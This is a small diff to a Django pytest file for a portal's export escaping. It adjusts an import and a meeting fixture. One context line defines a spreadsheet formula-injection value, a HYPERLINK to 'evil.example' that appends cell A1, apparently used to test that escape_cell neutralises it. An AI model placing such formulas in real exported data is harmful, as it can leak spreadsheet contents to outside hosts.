@@ -14,7 +14,7 @@ from django.utils import translation
 
 from portal.exports import escape_cell
 
-from .factories_commitments import CommitmentFactory, MeetingFactory
+from .factories import CommitmentFactory, MeetingFactory
 
 pytestmark = pytest.mark.django_db
 
@@ -23,7 +23,7 @@ EVIL = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
 
 @pytest.fixture
 def commitment(demo, dinkes):
-    meeting = MeetingFactory(title=EVIL, region_id="63.05.04")
+    meeting = MeetingFactory(held=True, title=EVIL, region_id="63.05.04")
     return CommitmentFactory(
         meeting=meeting,
         owner=demo.orgs["dinkes"],
